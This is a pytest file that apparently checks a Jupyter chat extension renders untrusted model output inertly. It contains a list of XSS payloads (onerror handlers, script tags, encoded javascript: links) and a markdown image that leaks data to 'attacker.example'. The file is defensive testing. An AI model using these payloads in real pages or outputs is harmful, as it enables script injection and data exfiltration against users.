"""Model output is untrusted: whatever it contains, what the notebook shows is inert.

Checked by parsing (``html.parser``), not by looking for substrings: no script-capable tag, no
``on*`` attribute in any tag, no link or source with a ``javascript:``/``vbscript:``/``data:``
URL. The ``text/markdown`` part is checked both as raw text (frontends pass raw HTML in
markdown through) and after rendering by a permissive markdown renderer that allows raw HTML
and every link.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from markdown_it import MarkdownIt

from lexilux_nb.testing import Reply

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[a](javascript:alert(1))",
    '<a href="javascript:alert(1)">click</a>',
    "[b](JaVaScRiPt:alert(1))",
    "[c](  javascript:alert(1) )",
    "[d](java&#115;cript:alert(1))",
    "[e](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[f][ref]\n\n[ref]: javascript:alert(1)",
    "![g](javascript:alert(1))",
    "![h](https://attacker.example/leak?data=secret)",
    "[i](vbscript:msgbox(1))",
    "[j](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "**bold <img src=x onerror=alert(1)> inside**",
    "- item <script>alert(1)</script>\n- [k](javascript:alert(1))",
    "| t |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<!-- comment --><img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "</div><script>alert(1)</script>",
]
ALL = "\n\n".join(PAYLOADS)
FORBIDDEN_TAGS = {
    "script",
    "img",
    "iframe",
    "svg",
    "math",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "link",
    "meta",
    "base",
    "frame",
    "frameset",
    "video",
    "audio",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
URL_SCHEME = re.compile(r"^[A-Za-z][A-Za-z0-9+.\-]*:")
SAFE_SCHEME = re.compile(r"^(https?:|mailto:)", re.IGNORECASE)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def tags_of(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(text)
    parser.close()
    return parser.tags


def problems(text: str) -> list[str]:
    """Everything active in ``text`` read as HTML (empty when inert)."""
    found = []
    for tag, attrs in tags_of(text):
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and value is not None:
                # what a browser does: strip controls and blanks, then read the scheme
                url = re.sub(r"[\x00-\x20]", "", value)
                scheme = URL_SCHEME.match(url)
                if scheme and not SAFE_SCHEME.match(url):
                    found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and re.search(r"url\s*\(|expression", value, re.I):
                found.append(f"<{tag} style={value!r}>")
    return found


def _permissive_markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # as a frontend that trusts every link would
    return md


def rendered_markdown_problems(markdown: str) -> list[str]:
    return problems(_permissive_markdown().render(markdown))


def assert_inert(bundle: dict[str, Any], *, has_code: bool = False) -> None:
    """``has_code``: HTML inside code spans/fences is shown as code, so the raw markdown
    text legitimately contains it; only the rendered markdown is checked then."""
    assert problems(bundle["text/html"]) == []
    if not has_code:
        assert problems(bundle["text/markdown"]) == []
    assert rendered_markdown_problems(bundle["text/markdown"]) == []


def ok(ran: Any) -> Any:
    assert ran.error is None, f"{ran.error!r}\n{ran.stdout}\n{ran.stderr}"
    return ran


def test_the_checker_catches_what_it_should() -> None:
    assert problems("<img src=x onerror=alert(1)>") == ["<img>", "<img onerror=...>"]
    assert problems('<a href="javascript:alert(1)">x</a>') != []
    assert problems('<a href=" jav\tascript:alert(1)">x</a>') != []
    assert problems('<a href="https://ok.example">x</a>') == []
    assert problems("&lt;img src=x onerror=alert(1)&gt;") == []
    assert rendered_markdown_problems("[a](javascript:alert(1))") != []
    assert rendered_markdown_problems("<img src=x onerror=alert(1)>") != []
    assert rendered_markdown_problems("[a]\\(javascript:alert(1))") == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_renders_inert(server: Any, run: Any, kernel: Any, payload: str) -> None:
    server.queue(Reply(text=payload))
    ran = ok(run("%%chat\nsay it"))
    assert_inert(ran.answer, has_code="`" in payload)
    assert ran.answer["text/plain"] == payload  # the text itself is kept, only made inert


def test_all_payloads_together_live_and_final(
    server: Any, run: Any, kernel: Any, comm_messages: list[Any]
) -> None:
    server.queue(Reply(text=ALL, delay=0.002))
    ran = ok(run("%%chat -o result\nsay it all"))
    assert_inert(ran.answer, has_code=True)
    updates = [m.custom for m in comm_messages if m.custom is not None]
    live_values = [
        piece
        for update in updates
        for section in update.values()
        if isinstance(section, dict)
        for piece in (section["commit"], section["tail"])
    ]
    live_values += [  # and every HTML state any widget was given
        str(m.data.get("state", {}).get("value", ""))
        for m in comm_messages
        if m.msg_type in ("comm_open", "comm_msg") and isinstance(m.data.get("state"), dict)
    ]
    assert updates, "the live widget was never updated"
    for value in live_values:
        assert problems(value) == []
    for bundle in ran.bundles:
        if "text/html" in bundle:
            assert problems(bundle["text/html"]) == []


@pytest.mark.parametrize("fmt", ["text", "code", "json"])
def test_other_formats_render_inert(server: Any, run: Any, kernel: Any, fmt: str) -> None:
    server.queue(Reply(text=ALL))
    assert_inert(ok(run(f"%%chat --format {fmt}\nsay it")).answer, has_code=True)


def test_reasoning_renders_inert(server: Any, run: Any, kernel: Any) -> None:
    server.queue(Reply(text="fine", reasoning=ALL))
    assert_inert(ok(run("%%chat --reasoning\nthink")).answer, has_code=True)


def test_interrupted_and_failed_partial_answers_render_inert(
    server: Any, run: Any, kernel: Any
) -> None:
    server.queue(Reply(text=ALL, cut_after=40))
    ran = run("%%chat\nsay it")
    assert ran.error is not None
    assert_inert(ran.answer, has_code=True)


def _assert_displays_inert(run: Any, cells: tuple[str, ...]) -> None:
    ok(run("from IPython.display import display"))
    for cell in cells:
        ran = ok(run(cell))
        assert ran.bundles, cell
        for bundle in ran.bundles:
            if "text/html" in bundle:
                assert problems(bundle["text/html"]) == [], cell
            if "text/markdown" in bundle:
                assert rendered_markdown_problems(bundle["text/markdown"]) == [], cell


def test_displaying_the_result_is_inert(server: Any, run: Any, kernel: Any) -> None:
    server.queue(Reply(text=ALL))
    ok(run("%%chat -o result\nsay it"))
    _assert_displays_inert(run, ("display(result)", "display(_chat)"))


def test_displaying_the_history_is_inert(server: Any, run: Any, kernel: Any) -> None:
    server.queue(Reply(text=ALL))
    ok(run("%%chat\nsay it"))
    _assert_displays_inert(run, ("%chat_history --show", "display(chat_history)"))


def test_the_history_markdown_defuses_links(server: Any, run: Any, kernel: Any) -> None:
    server.queue(Reply(text="[a](javascript:alert(1)) <img src=x onerror=alert(1)>"))
    ok(run("%%chat\nsay it"))
    (bundle,) = ok(run("%chat_history --show")).bundles
    assert problems(bundle["text/markdown"]) == []
    assert rendered_markdown_problems(bundle["text/markdown"]) == []


def test_the_prompt_is_not_shown_as_html(server: Any, run: Any, kernel: Any) -> None:
    ran = ok(run("%%chat --no-interpolate\n<img src=x onerror=alert(1)>"))
    assert_inert(ran.answer)  # the echo server repeats the prompt
